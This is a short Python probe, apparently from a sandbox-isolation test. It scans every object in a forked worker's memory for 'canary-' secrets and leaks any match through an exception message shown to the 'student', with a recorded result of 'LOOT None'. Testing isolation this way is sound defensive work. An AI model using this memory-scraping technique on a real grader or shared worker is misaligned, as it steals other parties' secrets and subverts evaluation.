"""Searches every string, byte and frame that Python holds in the worker.

Observed: whatever the zygote ever held is code.
Says: LOOT None
"""

import gc
import re
import sys


def loot(text):
    """Carry out what was found, as the text of an exception that the student sees."""
    found = re.search("canary-[0-9a-f]+", text)
    raise RuntimeError(f"LOOT {found[0] if found else None}")


needle = "canary-"
found = ""
seen = set()
queue = [*gc.get_objects(), *vars(sys).values()]
for thing in queue:
    if isinstance(thing, dict):
        parts = [*thing.keys(), *thing.values()]
    elif isinstance(thing, (list, tuple, set)):
        parts = list(thing)
    else:
        parts = [thing]
    for part in parts:
        if isinstance(part, str) and needle in part and "[0-9a-f]" not in part:
            found += part
        elif isinstance(part, (bytes, bytearray)) and needle.encode() in part:
            found += bytes(part).decode("latin-1")
loot(found)
